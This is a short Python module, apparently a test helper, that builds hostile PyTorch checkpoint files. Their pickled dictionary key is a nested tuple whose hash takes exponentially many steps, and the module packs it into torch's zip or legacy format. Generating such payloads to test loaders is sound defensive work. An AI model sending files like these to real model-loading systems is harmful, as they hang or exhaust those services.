"""Files of torch with a dictionary whose key takes for ever to hash, as an attacker makes them."""

import io
import zipfile

import torch


def program(levels=60, width=2):
    """Return a pickle whose key is a tuple that holds a tuple `width` times, which ..., `levels`.

    The hash of the key takes width^levels steps.
    """
    tuples = b"".join(b"q%c(%st" % (n, b"h%c" % n * width) for n in range(levels))
    return b"\x80\x02)" + tuples + b"q%c}h%cNs." % (levels, levels)


def zipped(content):
    """Return a zip file of torch with this pickle."""
    plain, hostile = io.BytesIO(), io.BytesIO()
    torch.save({"model": {}}, plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(hostile, "w") as archive:
        for name in source.namelist():
            archive.writestr(name, content if name.endswith("data.pkl") else source.read(name))
    return hostile.getvalue()


def in_old_format(content):
    """Return a file in torch's old format with this pickle."""
    plain = io.BytesIO()
    torch.save({"model": {}}, plain, _use_new_zipfile_serialization=False)
    # Three pickles about torch and the machine come first.
    plain.seek(0)
    for _ in range(3):
        torch.serialization.pickle.load(plain)
    return plain.getvalue()[: plain.tell()] + content + plain.getvalue()[plain.tell() :]
